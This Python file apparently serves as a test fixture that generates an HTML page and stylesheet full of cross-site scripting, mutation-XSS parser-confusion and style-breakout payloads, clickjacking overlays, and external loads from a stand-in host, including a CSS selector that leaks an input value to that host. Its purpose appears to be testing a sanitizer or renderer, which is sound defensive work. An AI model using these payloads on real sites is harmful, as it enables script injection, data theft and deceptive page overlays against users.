"""A page full of content that would run, load or cover something if it were allowed to."""

_SHEET = """
@import url(http://{at}/import.css); @import "http://{at}/import2.css";
@font-face {{ font-family: evil; src: url(http://{at}/font.woff); }}
@namespace url(http://{at}/namespace);
body {{ background: url(http://{at}/css.png); font-family: evil; cursor: url(http://{at}/c.cur), auto; }}
p {{ background: u\\72l(http://{at}/escaped.png); list-style: image-set("http://{at}/set.png" 1x); }}
p {{ --x: url(http://{at}/var.png); background-image: var(--x); behavior: url(http://{at}/b.htc); }}
p {{ -moz-binding: url(http://{at}/xbl); width: expression(pwn('expression')); }}
@media screen {{ @import "http://{at}/nested.css"; div {{ content: url(http://{at}/content.png); }} }}
#cover, .cover {{ position: fixed !important; inset: 0; z-index: 2147483647; background: red; }}
[data-victor] {{ display: none !important; background: url(http://{at}/mark.png) !important; }}
input[value^=s] {{ background: url(http://{at}/leak?s); }}
h1::after {{ content: "</style><script>pwn('css string')</script>"; }}
h2::after {{ content: "\\3c/style><script>pwn('css escape')</script>"; --x: <!-- </STYLE ><!-- ]]>; }}
@media (width<9999px) {{ [a="</style/><img src=x onerror=pwn(1)>"] {{ --y: a\\</style>; }} }}
p {{ background: cross-fade("//{at}/fade.png", red); filter: progid:X.Y(src="//{at}/progid"); }}
p {{ background: -webkit-cross-fade(src("//{at}/src"), red, 1%); --p: fixed; position: var(--p); }}
@keyframes a {{ from {{ background: url(http://{at}/frames.png); }} }}
"""

_PAGE = """<!DOCTYPE html><html onload="pwn('html')" manifest="http://{at}/manifest"
 style="background:url(http://{at}/html.png)"><head>
<base href="http://{at}/base/" target="_top">
<meta http-equiv="refresh" content="0;url=http://{at}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<meta http-equiv="Set-Cookie" content="a=b">
<link rel="stylesheet" href="http://{at}/sheet.css"><link rel="prefetch" href="http://{at}/prefetch">
<link rel="preload" as="script" href="http://{at}/preload.js">
<link rel="dns-prefetch preconnect" href="http://{at}/"><link rel="icon" href="http://{at}/icon">
<link rel="modulepreload" href="http://{at}/module.js"><link rel="prerender" href="http://{at}/pre">
<title></title><script>pwn('title')</script></title>
<style>{sheet}</style><style></style><img src=x onerror="pwn('style end')"></style>
<script>pwn('script')</script><script src="http://{at}/script.js"></script>
<script type="module">import "http://{at}/m.js"; pwn('module')</script>
</head><body onload="pwn('body')" onpageshow="pwn('pageshow')" background="http://{at}/body.png"
 data-victor="0" data-victor-label="0">
<div id="cover" class="cover">Covering words</div>
<div style="position:fixed;inset:0;background:url('http://{at}/inline.png');z-index:99">Cover</div>
<h1 onclick="pwn('click')" onmouseover="pwn('over')" onpointermove="pwn('move')">A title of a page</h1>
<p style="background:url(javascript:pwn('css'));width:expression(pwn('e'))">This is a paragraph of
running text, with two sentences. It is long enough to be taken for content by any model.</p>
<p><a href="javascript:pwn('href')">A link that runs</a> <a href="http://{at}/link"
 ping="http://{at}/ping" target="_top">one that leads away</a>
<a href="&#106;avascript:pwn('entity')">escaped</a> <a href="java&#10;script:pwn(1)">broken</a>
<a href="data:text/html,<script>parent.pwn(1)</script>">data</a></p>
<iframe src="http://{at}/frame"></iframe><iframe srcdoc="<script>parent.pwn('srcdoc')</script>"></iframe>
<iframe src="javascript:parent.pwn('frame')"></iframe><frameset><frame src="http://{at}/f"></frameset>
<object data="http://{at}/object"><param name="movie" value="http://{at}/movie"></object>
<embed src="http://{at}/embed"><applet code="http://{at}/applet"></applet>
<form action="http://{at}/form" id="querySelectorAll" name="querySelectorAll"><input name="body"
 autofocus onfocus="pwn('focus')" value="secret"><input type="image" src="http://{at}/input.png">
<button formaction="javascript:pwn('button')" autofocus>Send the form</button>
<textarea><img src=x onerror="pwn('textarea')"></textarea></form>
<img src="http://{at}/image.png" srcset="http://{at}/srcset.png 2x" onerror="pwn('img')" alt="Picture">
<img src=x onerror=pwn('error')><img name="elementFromPoint" id="elementFromPoint" src="http://{at}/n">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwn(1)'/>">
<picture><source srcset="http://{at}/source.png"><img src="http://{at}/picture.png"></picture>
<video src="http://{at}/video" poster="http://{at}/poster" autoplay onloadstart="pwn('video')">
<track src="http://{at}/track" default></video><audio src="http://{at}/audio" autoplay></audio>
<svg onload="pwn('svg')"><script>pwn('svg script')</script><image href="http://{at}/svg.png"/>
<use href="http://{at}/use.svg#a"/><animate onbegin="pwn('animate')" attributeName="x" dur="1s"/>
<foreignObject><img src=x onerror="pwn('foreign')"></foreignObject>
<a xlink:href="javascript:pwn('xlink')"><text>svg</text></a><style>@import "http://{at}/s.css"</style></svg>
<math href="javascript:pwn('math')"><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;img src=1 onerror=pwn('mglyph')&gt;"></mglyph></table></mtext></math>
<math><annotation-xml encoding="text/html"><img src=x onerror="pwn('annotation')"></math>
<noscript><p title="</noscript><img src=x onerror=pwn('noscript')>">Words without script</p></noscript>
<template><img src="http://{at}/template.png" onerror="pwn('template')"></template>
<template shadowrootmode="open"><img src="http://{at}/shadow.png"></template>
<svg></p><style><a id="</style><img src=1 onerror=pwn('mxss')>"></style></svg>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn('form')></style></form>
<xmp><p title="</xmp><img src=x onerror=pwn('xmp')>"></xmp>
<listing>&lt;img src=x onerror=pwn('listing')&gt;</listing>
<select><option><style></option></select><img src=x onerror=pwn('select')></style>
<p title='"><img src=x onerror=pwn("title")>' id='"onclick=pwn(1) x="' class="</span><script>pwn(1)">
Quoted &lt;script&gt;pwn('text')&lt;/script&gt; words &amp;lt;img src=x onerror=pwn(1)&amp;gt;</p>
<!--><img src=x onerror=pwn('comment')>--><!--[if IE]><script>pwn('ie')</script><![endif]-->
<x-element onclick="pwn('x')" style="color:red">Element of its own</x-element>
<details ontoggle="pwn('toggle')" open><summary>More words</summary>Details of it</details>
<marquee onstart="pwn('marquee')">Marquee words</marquee><dialog open onclose="pwn(1)">Dialog</dialog>
<table background="http://{at}/table.png"><tr><td background="http://{at}/td.png">Cell</td></tr></table>
<p>&lt;/script&gt;&lt;script&gt;pwn('json')&lt;/script&gt; &#8232; &#0; </script><script>pwn(2)</script>
<blockquote cite="http://{at}/cite">Quoted words</blockquote><input is="x" onfocus=pwn(1) autofocus>
<plaintext><img src=x onerror=pwn('plaintext')><p>The last words of the page
"""


def page(at: str = "hostile.invalid") -> str:
    """The page, whose addresses are of the host ``at``; what runs calls ``pwn``."""
    return _PAGE.format(at=at, sheet=_SHEET.format(at=at))


def pages(at: str = "hostile.invalid", size: int = 3) -> dict[str, str]:
    """The page by name, and ``size`` lines of it at a time: some swallow what comes after them."""
    head, sheet, body = page(at).split("<style>", 1)[0], _SHEET.format(at=at), page(at)
    lines = (head + body.split("</style>", 2)[-1]).splitlines()
    parts = ["\n".join(lines[i : i + size]) for i in range(0, len(lines), size)]
    parts += [f"<style>{line}</style>" for line in sheet.splitlines()]
    wrapped = (f"<p>Words before</p>{part}\n<p>Words after" for part in parts)
    return {"whole.html": page(at)} | {f"part-{i:02}.html": one for i, one in enumerate(wrapped)}
